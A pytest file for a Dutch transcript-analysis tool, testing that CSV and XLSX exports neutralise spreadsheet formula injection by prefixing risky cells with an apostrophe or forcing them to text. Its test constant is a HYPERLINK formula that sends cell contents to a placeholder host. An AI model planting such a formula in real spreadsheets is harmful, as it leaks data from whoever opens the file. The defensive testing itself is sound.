"""Text from transcripts is data, never a formula, in the CSV and XLSX files people open (formula injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from analysis.spreadsheet import csv_frame, csv_text, no_formulas

HOSTILE = '=HYPERLINK("http://example.invalid/?d="&A1,"klik")'


@pytest.mark.parametrize("text", [HOSTILE, "+31 6 1234", "-1+1", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert csv_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Ja, dat klopt.", "", 3, -2.5, None, "a=b"])
def test_other_values_are_unchanged(value):
    assert csv_text(value) == value


def test_frame_guards_text_cells_and_labels_but_keeps_numbers():
    frame = pd.DataFrame({"tekst": [HOSTILE, "gewoon"], "=n": [-1, 2]}, index=["-rij", "rij"])
    out = csv_frame(frame)
    assert out["tekst"].tolist() == ["'" + HOSTILE, "gewoon"]
    assert list(out.columns) == ["tekst", "'=n"]
    assert out["'=n"].tolist() == [-1, 2]
    assert list(out.index) == ["'-rij", "rij"]
    assert frame["tekst"].iloc[0] == HOSTILE  # the input is not changed


def test_workbook_cells_that_openpyxl_would_make_formulas_become_text():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append([HOSTILE, "gewoon", 5])
    assert wb.active["A1"].data_type == "f"
    assert no_formulas(wb) == 1
    assert wb.active["A1"].data_type == "s" and wb.active["A1"].value == HOSTILE


def test_matrix_export_writes_a_hostile_passage_as_text(tmp_path):
    from openpyxl import load_workbook

    from analysis.query.matrix import export_matrix

    class Result:
        def table(self, count, percent):
            return pd.DataFrame({"Adorp": [1]}, index=["Toegang"])

        def long_table(self):
            return pd.DataFrame({"code": ["Toegang"], "text": [HOSTILE]})

    export_matrix(Result(), str(tmp_path / "m.xlsx"))
    cell = load_workbook(tmp_path / "m.xlsx")["Fragmenten"]["B2"]
    assert cell.value == HOSTILE and cell.data_type == "s"
    export_matrix(Result(), str(tmp_path / "m.csv"))
    rows = list(csv.reader(io.StringIO((tmp_path / "m.fragmenten.csv").read_text(encoding="utf-8"))))
    assert rows[1] == ["Toegang", "'" + HOSTILE]


def test_machine_readable_cli_export_keeps_text_exact(tmp_path):
    """``duiding export … --format csv`` is for programs: text[start:end] must round-trip, so no apostrophe."""
    from analysis.cli.common import write_records

    target = tmp_path / "uit.csv"
    write_records([{"text": HOSTILE, "n": -3}], "csv", ["text", "n"], target)
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert rows == [{"text": HOSTILE, "n": "-3"}]
